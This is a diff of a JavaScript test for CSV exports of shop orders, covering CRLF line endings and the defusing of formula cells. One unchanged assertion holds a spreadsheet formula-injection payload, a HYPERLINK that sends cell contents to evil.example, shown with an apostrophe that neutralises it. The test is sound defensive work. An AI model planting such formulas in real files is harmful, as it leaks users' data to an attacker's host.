@@ -133,7 +133,7 @@ describe.each(testEngines())('the exports on %s', (engine) => {
     // Every row ends in CRLF; the formula is defused in the file itself.
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
-    expect(cells.find((candidate) => candidate[0] === order.code)![2]).toBe(`'${HOSTILE_BUYER}`);
+    expect(cells.find((candidate) => candidate[0] === order.code)![3]).toBe(`'${HOSTILE_BUYER}`);
     // The whole shop: the other event's order too.
     expect((await both('orders')).rows.map((candidate) => candidate.code)).toContain('OTHERORDER1');
   });
